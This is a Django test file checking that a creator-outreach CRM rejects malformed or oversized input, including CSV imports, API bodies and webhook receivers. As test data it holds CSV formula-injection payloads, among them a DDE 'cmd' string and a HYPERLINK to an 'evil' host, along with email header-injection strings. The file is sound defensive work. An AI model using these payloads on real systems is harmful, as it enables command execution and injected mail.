"""Every input bounded, and no input gives a 500: each attack below gets a clear 4xx or a rejected
row, and nothing already accepted is lost."""

import io
import json
import time
import tracemalloc

import pytest
from django.core.management import call_command

from core import csvsafe, headersafe, jsonbounds
from crm import handles
from crm.importer import MAX_COLUMNS, MAX_LINE_BYTES, ImportFileError, import_creators
from crm.models import Creator
from outreach.channels.base import Outbound
from outreach.channels.email import build
from outreach.models import InboundEvent
from outreach.webhooks import meta, tiktok, x
from tests.api.conftest import api_for
from tests.factories import CampaignFactory, ConsentEventFactory, PermissionRequestFactory
from tests.fakes.smtp import email_config

pytestmark = pytest.mark.django_db
META_SECRET, X_SECRET, TIKTOK_SECRET, EMAIL_SECRET = "meta-secret", "x-secret", "tt-secret", "mail-secret"


@pytest.fixture(autouse=True)
def secrets(settings):
    settings.META_APP_SECRET, settings.X_CONSUMER_SECRET = META_SECRET, X_SECRET
    settings.TIKTOK_APP_SECRET, settings.EMAIL_WEBHOOK_SECRET = TIKTOK_SECRET, EMAIL_SECRET


def deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


# --- handles and the importer ------------------------------------------------------------------


@pytest.mark.parametrize("value", ["jane[", "[", "http://[::1", "https://instagram.com/[x", "a" * 10_000, "x]y["])
def test_odd_characters_in_a_handle_are_an_invalid_handle_not_a_crash(value):
    with pytest.raises(handles.InvalidHandle):
        handles.normalize_handle("instagram", value)
    assert handles.platform_of_url(value) in {None, "instagram"}


def test_a_bracket_in_one_handle_rejects_that_row_and_keeps_the_others():
    text = "name,instagram\nJane,jane.doe\nBad,jane[\nLeo,leo.hart\n"
    result = import_creators(io.BytesIO(text.encode()))
    assert (result.rows, result.created, result.rejected) == (3, 2, 1)
    assert [(r.line, r.column) for r in result.rejections] == [(3, "instagram")]


def test_a_nul_byte_after_the_first_8_kb_refuses_the_whole_file_before_any_batch(settings):
    rows = "".join(f"Creator {n},creator.{n}\n" for n in range(2000))  # > 8 KB, several batches
    text = "name,instagram\n" + rows + "Late,la\x00te\n" + "More,more.one\n"
    with pytest.raises(ImportFileError, match="NUL"):
        import_creators(io.BytesIO(text.encode()), batch_size=100)
    assert not Creator.objects.exists()


def test_thousands_of_header_columns_refuse_the_file_with_a_short_message():
    header = "name,instagram," + ",".join(f"col{n}" for n in range(5000))
    with pytest.raises(ImportFileError) as refused:
        import_creators(io.BytesIO((header + "\nJane,jane\n").encode()))
    assert str(MAX_COLUMNS) in str(refused.value) and len(str(refused.value)) < 300


class EndlessLine(io.RawIOBase):
    """A file whose second line never ends: reading it whole would take all memory."""

    def __init__(self):
        self.given = 0
        self.head = b"name,instagram\n"

    def readable(self):
        return True

    def seek(self, offset, whence=0):
        self.given, self.head = 0, b"name,instagram\n"
        return 0

    def read(self, size=-1):
        return self.readline(size if size and size > 0 else 8192)

    def readline(self, size=-1):
        if self.head:
            head, self.head = self.head, b""
            return head
        if size is None or size < 0 or self.given > 50 * MAX_LINE_BYTES:
            raise AssertionError("the importer read without a bound")
        self.given += size
        return b"a" * size


def test_a_gigabyte_line_is_refused_with_flat_memory():
    tracemalloc.start()
    with pytest.raises(ImportFileError, match="longer than"):
        import_creators(EndlessLine())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 20 * MAX_LINE_BYTES


def test_a_huge_quoted_cell_spread_over_lines_is_refused():
    text = 'name,instagram,notes\nJane,jane,"' + ("x" * 1000 + "\n") * 110 + '"\n'
    with pytest.raises(ImportFileError, match="cell longer"):
        import_creators(io.BytesIO(text.encode()))


def test_a_truncated_character_at_the_very_end_refuses_the_file():
    with pytest.raises(ImportFileError):
        import_creators(io.BytesIO("name,instagram\nJane,jane\nJosé,jose".encode()[:-5] + "é".encode()[:1]))


# --- the API --------------------------------------------------------------------------------------


@pytest.fixture
def api(alice):
    return api_for(alice)


def test_json_nested_100000_deep_is_a_400_not_a_recursion_error(api):
    answer = api.client.post("/api/v1/creators/", deep(100_000), content_type="application/json")
    assert answer.status_code == 400 and "deeper than" in answer.json()["detail"]
    nested = json.dumps({"name": "Jane", "notes": "", "tags": [], "accounts": [], "x": json.loads(deep(33))})
    assert api.client.post("/api/v1/creators/", nested, content_type="application/json").status_code == 400


def test_brackets_inside_strings_do_not_count_as_nesting(api):
    body = {"name": "Jane [[[[", "notes": "[" * 5000, "tags": []}
    assert api.post("/api/v1/creators/", body).status_code == 201


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"name": "J", "tags": [f"t{n}" for n in range(101)]}, "tags"),
        ({"name": "J", "notes": "x" * 20_001}, "notes"),
        ({"name": "J", "accounts": [{"platform": "instagram", "handle": f"h{n}"} for n in range(51)]}, "accounts"),
        ({"name": "Jane\r\nBcc: victim@example.com"}, "name"),
        ({"name": "J", "email": "a" * 250 + "@example.com"}, "email"),
    ],
)
def test_creator_inputs_are_bounded(api, body, field):
    answer = api.post("/api/v1/creators/", body)
    assert answer.status_code == 400 and field in answer.json()
    assert not Creator.objects.exists()


def test_a_campaign_team_of_thousands_is_refused_before_any_lookup(api, django_assert_max_num_queries):
    with django_assert_max_num_queries(10):
        answer = api.post("/api/v1/campaigns/", {"name": "C", "brand": "B", "team": list(range(1, 5000))})
    assert answer.status_code == 400 and "team" in answer.json()


def test_a_template_subject_with_a_line_break_is_refused(api):
    answer = api.post(
        "/api/v1/templates/", {"name": "T", "platforms": ["email"], "subject": "Hi\nBcc: x@y", "body": "Hello"}
    )
    assert answer.status_code == 400 and "subject" in answer.json()


def test_bulk_ids_and_event_lists_are_bounded(api, settings):
    settings.WEBHOOKS_ALLOW_PRIVATE_URLS = True
    answer = api.post(
        "/api/v1/webhook-subscriptions/", {"url": "https://203.0.113.7/h", "events": ["consent.granted"] * 101}
    )
    assert answer.status_code == 400 and "events" in answer.json()


# --- webhook receivers ----------------------------------------------------------------------------


def post_meta(client, body):
    return client.post(
        "/webhooks/meta/", body, content_type="application/json", HTTP_X_HUB_SIGNATURE_256=meta.sign(body, META_SECRET)
    )


def test_a_signed_but_deeply_nested_meta_body_is_a_400_and_stores_nothing(client):
    assert post_meta(client, deep(100_000)).status_code == 400
    assert post_meta(client, b'{"object": "page", "entry": ' + deep(40) + b"}").status_code == 400
    assert not InboundEvent.objects.exists()


@pytest.mark.parametrize("body", [b"[]", b"1", b'"x"', b"null"])
def test_a_json_body_that_is_not_an_object_is_a_400(client, body):
    assert post_meta(client, body).status_code == 400
    header = x.sign(body, X_SECRET)
    assert client.post("/webhooks/x/", body, content_type="application/json", HTTP_X_TWITTER_WEBHOOKS_SIGNATURE=header)
    stamp = int(time.time())
    answer = client.post(
        "/webhooks/tiktok/", body, content_type="application/json",
        HTTP_TIKTOK_SIGNATURE=tiktok.sign(body, TIKTOK_SECRET, stamp),
    )  # fmt: skip
    assert answer.status_code == 400
    assert not InboundEvent.objects.exists()


@pytest.mark.parametrize("content", [deep(100_000).decode(), "[1]", '"x"', "{bad"])
def test_tiktok_content_of_any_shape_is_a_400_not_a_crash(client, content):
    body = json.dumps({"event": "im_receive_msg", "content": content}).encode()
    answer = client.post(
        "/webhooks/tiktok/", body, content_type="application/json",
        HTTP_TIKTOK_SIGNATURE=tiktok.sign(body, TIKTOK_SECRET, int(time.time())),
    )  # fmt: skip
    assert answer.status_code in {200, 400}


def test_a_400_character_message_id_is_a_400_not_a_database_error(client):
    raw = (
        "From: Jane <jane@example.com>\r\nTo: us@brand.example\r\nSubject: hi\r\n"
        f"Message-ID: <{'a' * 400}@example.com>\r\n\r\nHello\r\n"
    ).encode()
    answer = client.post("/webhooks/email/", raw, content_type="message/rfc822", HTTP_X_WEBHOOK_SECRET=EMAIL_SECRET)
    assert answer.status_code == 400 and "longer than 255" in answer.json()["error"]
    assert not InboundEvent.objects.exists()


# --- mail headers ---------------------------------------------------------------------------------


def test_line_breaks_stored_before_never_reach_a_header(smtp_sink):
    """A from_name or subject (with a creator's name rendered into it) that carries CR/LF is folded
    to one line at sending: no injected header, no crash."""
    channel = build(email_config(smtp_sink))
    message = Outbound(
        recipient_id="jane@example.com",
        text="Hello",
        subject="Hi Jane\r\nBcc: victim@example.com",
        from_name="Acme\nBcc: victim@example.com",
        unsubscribe_url="https://brand.example/u/1",
        idempotency_key="k1",
    )
    result = channel.send(message)
    assert result.sent, result
    delivered = smtp_sink.messages[-1]
    assert delivered["Bcc"] is None
    assert delivered.rcpt_tos == ("jane@example.com",)
    assert "Bcc" in delivered["Subject"]  # the text stayed in the subject, on one line


def test_the_header_helpers():
    assert headersafe.one_line("a\r\nb\u2028c") == "a b c"
    with pytest.raises(Exception, match="one line"):
        headersafe.validate_one_line("a\nb")
    assert jsonbounds.nesting_depth(b'{"a": "[[[[", "b": [[1]]}') == 3


# --- CSV injection --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_every_formula_start_is_neutralised(cell):
    out = io.StringIO()
    csvsafe.writer(out).writerow([cell, 5, -3])
    assert out.getvalue().startswith(("'", "\"'"))
    assert out.getvalue().rstrip().endswith(",5,-3")


def test_the_import_rejections_csv_neutralises_what_the_file_said(client, alice, tmp_path, settings):

    source = tmp_path / "creators.csv"
    source.write_text('name,instagram\n"=HYPERLINK(""http://evil/?""&A1)",=cmd\nJane,jane\n')
    call_command("import_creators", str(source))
    report = (tmp_path / "creators.rejected.csv").read_text()
    assert "=cmd" in report and ",'=cmd," in report.replace('"', "")


def test_the_campaign_decisions_csv_neutralises_creator_names(client, alice):
    campaign = CampaignFactory(owner=alice)
    request = PermissionRequestFactory(campaign=campaign, content__campaign=campaign, content__creator__name="=1+2")
    ConsentEventFactory(creator=request.content.creator, permission_request=request)
    client.force_login(alice)
    body = b"".join(client.get(f"/campaigns/{campaign.pk}/decisions.csv").streaming_content).decode()
    assert "'=1+2" in body and "\n=1+2" not in body and ",=1+2" not in body


def test_a_body_over_the_upload_limit_is_a_400_not_a_500(client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    body = b'{"object": "page", "entry": [' + b'{"id": "1"},' * 2000 + b'{"id": "2"}]}'
    answer = client.post(
        "/webhooks/meta/", body, content_type="application/json", HTTP_X_HUB_SIGNATURE_256=meta.sign(body, META_SECRET)
    )
    assert answer.status_code == 400
    assert not InboundEvent.objects.exists()


@pytest.mark.parametrize(
    ("path", "name"),
    [("/api/v1/creators/", "owner"), ("/api/v1/creators/", "campaign"), ("/api/v1/outreach-messages/", "creator"),
     ("/api/v1/consent-events/", "creator")],
)  # fmt: skip
def test_an_id_past_64_bits_in_a_filter_matches_nothing(api, path, name):
    """No row has such an id: the answer is an empty page, as for any unknown id (never a 500)."""
    for value in ("9" * 40, "-" + "9" * 25):
        answer = api.get(path, **{name: value})
        assert answer.status_code == 200 and answer.json()["results"] == []
